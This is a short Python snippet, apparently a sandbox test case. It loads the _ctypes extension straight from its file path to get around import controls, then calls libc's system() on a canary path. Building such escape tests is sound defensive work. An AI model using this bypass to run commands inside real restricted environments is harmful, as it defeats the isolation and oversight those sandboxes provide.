# reaches: an extension module is loaded from its path
from importlib.machinery import ExtensionFileLoader
import importlib.util, sysconfig, glob
(path,) = glob.glob(sysconfig.get_path("stdlib") + "/lib-dynload/_ctypes.cpython*")
spec = importlib.util.spec_from_loader("_ctypes", ExtensionFileLoader("_ctypes", path))
c = importlib.util.module_from_spec(spec)
c.call_function(c.dlsym(c.dlopen(None, 1), "system"), (b"/srv/canary",))
